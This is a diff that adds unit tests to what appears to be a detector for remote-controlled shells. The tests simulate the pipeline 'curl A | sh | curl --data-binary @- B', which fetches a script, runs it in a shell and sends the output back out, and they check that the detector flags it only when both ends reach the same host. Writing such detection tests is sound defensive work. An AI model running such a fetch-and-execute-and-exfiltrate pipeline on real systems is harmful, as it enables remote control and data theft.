@@ -93,3 +93,36 @@ test('stays with the shell when the one above it has other ends', () => {
   scene.net({ pid: 102, at: 30, startedAt: 20, tx: helloBytes('opensslAddress') });
   assert.equal(scene.last?.actor, keyOf(101));
 });
+
+/** `curl A | sh | curl --data-binary @- B`: the second curl begins when the others have ended. */
+function fetchAndBring(from: string, to: string): Scene {
+  const scene = new Scene();
+  const curl = { path: '/usr/bin/curl', parentPid: 100 };
+  scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash', '/opt/sync/poll'], parentPid: 50 });
+  scene.start({ ...curl, pid: 101, argv: ['curl', '-s', from], stdio: [nullFd, pipe(1), nullFd], at: 5 });
+  scene.start({
+    pid: 102,
+    parentPid: 100,
+    path: '/usr/bin/dash',
+    argv: ['sh'],
+    stdio: [pipe(1), pipe(2), nullFd],
+    at: 5,
+  });
+  scene.start({ ...curl, pid: 103, argv: ['curl', '-s', '-d', '@-', to], stdio: [pipe(2), nullFd, nullFd], at: 5 });
+  scene.map(101, 'libcrypto.so.3', 8);
+  scene.map(103, 'libcrypto.so.3', 8);
+  scene.tls(101, 10, helloBytes('curlAddress'), { address: from, port: 443 });
+  for (const pid of [101, 102]) scene.end(pid, 80 + pid);
+  scene.tls(103, 300, helloBytes('curlAddress'), { address: to, port: 443, socket: 'socket:9' });
+  return scene;
+}
+
+test('a shell whose commands one program fetches from where another brings its output is commanded', () => {
+  const { last } = fetchAndBring('10.20.0.2', '10.20.0.2');
+  assert.equal(last?.actor, keyOf(102));
+  assert.match(last?.legs.find(({ leg }) => leg === 'joined-shell')?.reasons[0] ?? '', /by way of \/usr\/bin\/curl/);
+});
+
+test('stays quiet when what a fetched script prints is sent to another place', () => {
+  assert.deepEqual(fetchAndBring('10.20.0.2', '10.20.0.3').verdicts, []);
+});
